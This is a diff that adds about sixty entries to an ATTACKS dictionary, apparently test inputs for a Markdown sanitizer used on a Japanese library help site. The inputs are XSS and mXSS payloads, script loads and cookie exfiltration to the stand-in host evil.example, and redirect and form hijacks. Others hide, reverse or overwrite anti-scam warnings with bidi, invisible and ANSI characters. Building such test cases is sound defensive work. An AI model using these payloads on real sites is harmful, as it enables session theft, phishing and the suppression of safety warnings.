@@ -529,6 +529,278 @@ ATTACKS: dict[str, str] = {
     "telephone number, three signs": "0120 (444) 113",
     "telephone number, zenkaku spaced brackets": "０１２０（ ４４４ ）１１３",
     "fresh: host with bracket dot": "Open evil[.]example now.",
+    # ---- what somebody wrote who had seen neither checks nor lists ----
+    "unseen: details ontoggle": (
+        "<details open ontoggle=\"location='//evil.example/'\"><summary>返却の手順</summ"
+        "ary>\n"
+        "本は窓口へ返します。\n"
+        "</details>"
+    ),
+    "unseen: attr heading pointer": (
+        "## 借り方の流れ {: #flow onpointerrawupdate=\"import('//evil.example/m.js')\" ."
+        "step }\n"
+        "\n"
+        "窓口で申し込みます。"
+    ),
+    "unseen: attr img src override": (
+        "![図書館の入口](assets/door.png){ loading=lazy src=//evil.example/door.png }\n"
+        "\n"
+        "入口は東側です。"
+    ),
+    "unseen: attr link href override": (
+        'くわしくは[借り方](guide/borrow.md){ rel="noopener" href="https://evil.example/'
+        'borrow" }をご覧ください。'
+    ),
+    "unseen: attr style para": (
+        "窓口は平日だけ開いています。\n"
+        '{: style="position:fixed;inset:0;z-index:99;background:#fff url(//evil.example/'
+        'b.png)" }'
+    ),
+    "unseen: svg animate href": (
+        '<svg viewBox="0 0 90 20" width="90"><a><animate attributeName="href" values="ja'
+        'vascript:alert(1);#" begin="0s" dur="99999s"/><text y="15">開く</text></a></svg>'
+    ),
+    "unseen: meta refresh md block": (
+        '<div markdown="block">\n'
+        "\n"
+        "窓口の時間は変わりました。\n"
+        "\n"
+        '<meta http-equiv="refresh" content="9; url=https&#58;//evil.example/">\n'
+        "\n"
+        "</div>"
+    ),
+    "unseen: base in list": (
+        '1. 申込書を書く\n2. 窓口に出す <base href="https://evil.example/">\n3. 本を受け取る'
+    ),
+    "unseen: iframe srcdoc entities": (
+        "地図:\n"
+        "\n"
+        '<iframe title="地図" srcdoc="&lt;script src=//evil.example/a.js&gt;&lt;/script&'
+        'gt;"></iframe>'
+    ),
+    "unseen: shadowroot template": (
+        '<div><template shadowrootmode="open"><style>:host{all:initial}slot{display:none'
+        '}</style><p>手続きは <a href="https://evil.example/">こちら</a></p><slot></slot'
+        "></template>\n"
+        "相手に払わないでください。\n"
+        "</div>"
+    ),
+    "unseen: speculationrules": (
+        '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]'
+        "}]}</script>\n"
+        "\n"
+        "How to borrow a book."
+    ),
+    "unseen: button formaction": (
+        "<form id=f></form>\n"
+        "\n"
+        '窓口の予約: <button form=f formaction="https://evil.example/p" formmethod=post>'
+        "予約する</button>"
+    ),
+    "unseen: mathml mxss": (
+        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
+        'onerror=alert(1)&gt;"></mglyph></table></mtext></math>'
+    ),
+    "unseen: noscript title break": (
+        "<noscript><p title=\"</noscript><img src=x onerror=import('//evil.example/m.js"
+        "')>\">JavaScript を有効にしてください。</p></noscript>"
+    ),
+    "unseen: fence attr event": (
+        "``` { .text #memo onmouseenter=\"fetch('//evil.example/'+document.cookie)\" tit"
+        'le="<img src=//evil.example/t.png>" }\n'
+        "貸出は二週間です\n"
+        "```"
+    ),
+    "unseen: js scheme tab entity": (
+        "[印刷する](<java&Tab;script&colon;print()//>)と[保存する](\x01javascript:alert`"
+        "1`)を使えます。"
+    ),
+    "unseen: refdef split scheme": (
+        "申込みは[借り方のページ][b]から。\n"
+        "\n"
+        "[ B ]:\n"
+        "    <\\\\evil.example/guide/borrow/>\n"
+        "    '借り方'"
+    ),
+    "unseen: picture srcset": (
+        '<picture><source media="(min-width:1px)" srcset="assets/door.png 1x, //evil.exa'
+        'mple/d.png 2x"><img alt="入口" src="assets/door.png"></picture>'
+    ),
+    "unseen: td background attr": (
+        "| 曜日 | 時間 |\n"
+        "|---|---|\n"
+        "| 平日{: background=//evil.example/x.gif onclick=alert(1) } | 9時から |\n"
+        "| 土曜 | 休み <bgsound src=//evil.example/a.wav><link rel=dns-prefetch href=//e"
+        "vil.example> |"
+    ),
+    "unseen: contact attr href tel": (
+        "まず[図書館の受付](contact:front-desk){ .tel href=tel:0990123456 }に電話してください。"
+    ),
+    "unseen: source text names other host": (
+        "利用の決まりは [evil.example/rules](source:library-rules) にあります。"
+    ),
+    "unseen: automail entityised": ("返事がないときは <desk@evil.example> へ。"),
+    "unseen: arabic indic digits": ("Night desk: ٠٣-٩٩٩٩-٠٠٠٠, ७ days a week."),
+    "unseen: rlo reversed number": ("夜間の受付: \u202e654-321-0990\u202c までお電話ください。"),
+    "unseen: userinfo url": (
+        "利用の決まり: <https://library.example@evil.example/rules?x=library.example>"
+    ),
+    "unseen: ideographic dot host": (
+        "ブラウザーの上の欄に「evil。example／ｕｋｅｔｓｕｋｅ」と入れると、申込書が開きます。"
+    ),
+    "unseen: broken img alt": (
+        "![受付は 0990 の 123 の 456 です](assets/door.png){ src=assets/none.png }"
+    ),
+    "unseen: input value readonly": (
+        '<label>受付の番号 <input readonly size=14 value="&#48;990&#x2d;123&#45;456"></label>'
+    ),
+    "unseen: line handle fullwidth": (
+        "無料で相談できます。ラ\u200bイ\u200bンの友だち検索で「＠ｅｖｉｌ＿ｈｅｌｐ」を"
+        "さがしてください。"
+    ),
+    "unseen: nested bracket link": (
+        "[[図書館の決まり library.example](source:library-rules)](https://evil.example/)"
+        " を読んでください。"
+    ),
+    "unseen: md toggle class": (
+        '<div class="md-toggle" markdown>\n'
+        "\n"
+        '!!! danger "払わないでください"\n'
+        "    相手に連絡しないでください。\n"
+        "\n"
+        "</div>"
+    ),
+    "unseen: attr md skip": (
+        "相手に電話をしないでください。お金を払わないでください。\n{: .md-skip }"
+    ),
+    "unseen: button lookalike": (
+        "[いますぐ解約の手続きをする](https://evil.example/){ .md-button .md-button--primary }"
+    ),
+    "unseen: admonition custom class": (
+        '!!! danger md-consent md-overlay "図書館からの大切なお知らせ"\n'
+        "    期限までに[手続き](https://evil.example/)をしないと料金がふえます。"
+    ),
+    "unseen: unclosed comment after": (
+        "窓口は平日 9 時からです。\n\n<!-- 次の更新で消す\n\n以下、注意:"
+    ),
+    "unseen: unclosed textarea": ("申込みの例: <textarea rows=1 style>山田\n\n例は以上です。"),
+    "unseen: details collapse warning": (
+        '<details class="abstract" markdown="1"><summary>編集の記録（読まなくてかまいま'
+        "せん）</summary>\n"
+        "\n"
+        "相手に連絡しないでください。お金を払わないでください。\n"
+        "\n"
+        "</details>"
+    ),
+    "unseen: select option swallow": (
+        '<select size="1"><option>手続きをする<option>払わないでください、相手に連絡しな'
+        "いでください</select>"
+    ),
+    "unseen: br push down": (
+        "手続きをしてください。<br><br><br><br><br><br><br><br><br><br><br><br><br><br><"
+        "br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br>"
+        "<br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br"
+        "><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><b"
+        "r><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><"
+        "br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br>"
+        "<br><br><br><br><br><br><br>\n"
+        "\n"
+        "払う前に相談してください。"
+    ),
+    "unseen: img height push": (
+        "![](assets/door.png){ width=1 height=30000 align=left hspace=400 }\n"
+        "\n"
+        "払う前に相談してください。"
+    ),
+    "unseen: close article": (
+        "窓口は東側です。\n"
+        "\n"
+        "</article></div></div></main>\n"
+        "\n"
+        '<footer class="md-footer"><p>図書館公式 <a href="https://evil.example/">お支払'
+        "い窓口</a></p></footer>"
+    ),
+    "unseen: strike warning": (
+        "<del>相手に連絡しないでください。お金を払わないでください。</del>\n"
+        "\n"
+        "<ins>（改正により、この注意は終わりました）</ins>"
+    ),
+    "unseen: small nested": (
+        "<sub><sub><sub><sub><sub><sub><small>払わないでください。</small></sub></sub></"
+        "sub></sub></sub></sub>\n"
+        "\n"
+        "# 払えば終わります"
+    ),
+    "unseen: id collision toggle": (
+        "## 検索 { #__search .md-search data-md-component=search }\n"
+        "\n"
+        '<label for="__drawer" class="md-overlay" style="">\u3000</label>'
+    ),
+    "unseen: announce banner": (
+        '<aside class="md-banner" data-md-component="announce" role="alert" markdown>\n'
+        "**このサイトからのお知らせ：** このページの注意は古いものです。請求された料金は"
+        "払う必要があります。\n"
+        "</aside>"
+    ),
+    "unseen: tag characters": (
+        "窓口は平日だけです。\U000e0070\U000e0061\U000e0079\U000e0020\U000e0068"
+        "\U000e0074\U000e0074\U000e0070\U000e0073\U000e003a\U000e002f\U000e002f"
+        "\U000e0065\U000e0076\U000e0069\U000e006c\U000e002e\U000e0065\U000e0078"
+        "\U000e0061\U000e006d\U000e0070\U000e006c\U000e0065\U000e002f\U000e0020"
+        "\U000e006e\U000e006f\U000e0077\U000e007f土曜は休みです。"
+    ),
+    "unseen: variation selector bytes": ("本は二週間借りられます📖󠄬󠅣󠅓󠅢󠅙󠅠󠅤󠄐󠅣󠅢󠅓󠄭󠄟󠄟󠅕󠅦󠅙󠅜󠄞󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄮。"),
+    "unseen: placeholder forgery": (
+        "<b hidden>x</b>窓口 \x02wzxhzdk:0\x03 と \x02klzzwxh:0001\x03 と \x02amp\x03#48; です。"
+    ),
+    "unseen: cr and nel lines": (
+        '窓口は平日だけです。\r\r<div onclick="alert(1)">\r土曜は休みです。\x85\u2028</d'
+        "iv>\x0b\x0c- 以上"
+    ),
+    "unseen: ansi conceal diff": (
+        "窓口は平日だけです。\x1b[8m 料金は [こちら](https://evil.example/) \x1b[28m\x1b"
+        "[1A\x1b[2K土曜は休みです。"
+    ),
+    "unseen: duplicate refdef": (
+        "[決まり][r]を読んでください。\n"
+        "\n"
+        "[r]: guide/borrow.md\n"
+        "\n"
+        "> - 補足\n"
+        '>     [R]: //evil.example/r "決まり"\n'
+        "\n"
+        "[r]: https://evil.example/r"
+    ),
+    "unseen: shortcut ref hijack": (
+        "- [x] 本を返す\n"
+        "- [ ] 申込書を出す\n"
+        "\n"
+        "[x]: https://evil.example/\n"
+        '[注意]: https://evil.example/ "[注意] はページの下にあります"'
+    ),
+    "unseen: zalgo overlay": ("土曜は休みです。払̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴̶⃠҉̴わないでください。"),
+    "unseen: homoglyph source": (
+        "利用の決まりは [librаry.example](source:librаry-rules) と [library․example](sou"
+        "rce:library-rules\xad) にあります。"
+    ),
+    "unseen: pi cdata mix": (
+        "<?note 窓口 ?><![CDATA[ <p> ]]><!x>\n"
+        '<?a "?><img src=x onerror=alert(1)>" ?>\n'
+        "\n"
+        "<![CDATA[><svg/onload=alert(1)>]]>"
+    ),
+    "unseen: bidi isolate swap": (
+        "払って\u2067\u2066いけません\u2069 \u2066ください\u2069\u2069。 Do \u202dnot"
+        "\u202c \u2068\u202epay\u202c\u2069 them."
+    ),
+    "unseen: code span unbalanced": (
+        "例: `` ` <b> ``` と書きます。`<img src=//evil.example/i.png>\\`` \\`<u onclick="
+        "alert(1)>下線</u>\\`\n"
+        "\n"
+        "    ```html\n"
+        "<i onfocus=alert(1) tabindex=0 autofocus>例</i>\n"
+        "    ```"
+    ),
 }
 
 FRONT_MATTER: dict[str, str] = {
